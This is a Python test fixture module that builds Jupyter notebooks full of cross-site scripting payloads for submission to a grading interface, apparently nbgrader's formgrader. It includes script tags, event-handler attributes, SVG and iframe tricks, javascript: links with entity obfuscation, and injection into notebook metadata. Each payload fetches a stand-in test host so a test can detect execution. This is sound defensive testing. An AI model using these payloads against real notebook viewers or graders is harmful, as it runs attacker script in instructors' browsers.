"""Notebooks that would act on the page that shows them; each asks for an address of its own when it does."""

from __future__ import annotations

import base64
from typing import Any

import nbformat

#: No such host is ever asked: a test answers for it.
HOST = "https://elsewhere.test"


def ask(name: str) -> str:
    return f"fetch('{HOST}/{name}')"


def _svg(name: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ask(name)}"></svg>'


#: Markdown by name. All of these act when a page shows them as they are.
TEXTS: dict[str, str] = {
    "script": f"My answer.\n\n<script>{ask('script')}</script>",
    "handler": f'<img src="nothing" onerror="{ask("handler")}">',
    "picture": f"![a curve]({HOST}/picture)",
    "svg": _svg("svg"),
    "srcdoc": f'<iframe srcdoc="<script>parent.{ask("srcdoc")}</script>"></iframe>',
    "frame": f'<iframe src="{HOST}/frame"></iframe>',
    "base": f'<base href="{HOST}/base/"><img src="a">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={HOST}/refresh">',
    "style": f"<style>@import url('{HOST}/style');</style>",
    "background": f'<div style="background: url({HOST}/background); height: 9px">&nbsp;</div>',
    "focus": f'<form><input autofocus onfocus="{ask("focus")}"></form>',
    "toggle": f'<details open ontoggle="{ask("toggle")}"><summary>s</summary></details>',
    "object": f'<object data="{HOST}/object"></object>',
    "stylesheet": f'<link rel="stylesheet" href="{HOST}/stylesheet">',
    "mermaid": f'```mermaid\n<img src="nothing" onerror="{ask("mermaid")}">\n```',
    "table": f"| a |\n|-|\n| <img src=x onerror={ask('table')}> |",
    "unended": f'<img src="nothing" onerror="{ask("unended")}" alt="',
}
#: Texts that act only when somebody clicks, or when MathJax is there: they may leave no link and no macro.
LINKS: dict[str, str] = {
    "javascript": f"[more](javascript:{ask('javascript')})",
    "entities": f"[more](java&#115;cript:{ask('entities')})",
    "reference": f"[more][1]\n\n[1]: javascript:{ask('reference')}",
    "automatic": f"<javascript:{ask('automatic')}>",
    "data": "[more](data:text/html;base64,PHNjcmlwdD4=)",
    "own_server": "[my code](/formgrader/manage_students/%22%2Balert(1)%2B%22)",
    "address": "see http://127.0.0.1:8888/formgrader/manage_students/%22%2Balert(1)%2B%22 there",
    "html": f'<a href="javascript:{ask("html")}">more</a>',
    "macro": r"$\href{javascript:alert(1)}{x}$ and $\unicode{x41}$",
}


def _output(**data: Any) -> Any:
    metadata = data.pop("metadata", {})
    return nbformat.v4.new_output("display_data", {k.replace("__", "/"): v for k, v in data.items()}, metadata=metadata)


_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

#: Outputs by name.
OUTPUTS: dict[str, Any] = {
    "html": _output(text__html=f"<script>{ask('html')}</script>"),
    "html_handler": _output(text__html=f'<b><img src="x" onerror="{ask("html_handler")}"></b>'),
    "javascript": _output(application__javascript=ask("javascript")),
    "markdown": _output(text__markdown=f"<script>{ask('markdown')}</script>"),
    "isolated": _output(text__html=f"<script>{ask('isolated')}</script>", metadata={"text/html": {"isolated": True}}),
    "width": _output(image__png=_PIXEL, metadata={"image/png": {"width": f"1 onload={ask('width')}"}}),
}
NAME = f'<img src="nothing" onerror="{ask("name")}">'


def with_text(notebook: Any, text: str, grade_id: str) -> Any:
    """Hand in a text as the answer to a question."""
    next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id).source = text
    return notebook


def with_output(notebook: Any, output: Any) -> Any:
    """Hand in a cell with an output."""
    cell = nbformat.v4.new_code_cell("show()", execution_count=1, outputs=[output])
    notebook.cells.append(cell)
    return notebook


def everything(notebook: Any) -> Any:
    """Hand in all of them at once, each in a cell of its own."""
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in (*TEXTS.values(), *LINKS.values())]
    for output in OUTPUTS.values():
        with_output(notebook, output)
    program = nbformat.v4.new_markdown_cell("![a](attachment:a.svg)")
    program["attachments"] = {"a.svg": {"image/svg+xml": base64.b64encode(_svg("attached").encode()).decode()}}
    raw = nbformat.v4.new_raw_cell(TEXTS["script"], metadata={"raw_mimetype": "text/html"})
    notebook.cells += [program, raw]
    notebook.metadata["title"] = TEXTS["script"]
    notebook.metadata["kernelspec"] = {"name": NAME, "display_name": NAME, "language": "python"}
    notebook.cells[-1].metadata["tags"] = [NAME]
    notebook.cells[-3].metadata["nbgrader"] = {
        **{"grade_id": f'">{NAME}', "grade": True, "solution": True, "locked": False, "task": False},
        **{"points": 1, "schema_version": 3, "cell_type": "code"},
    }
    return notebook
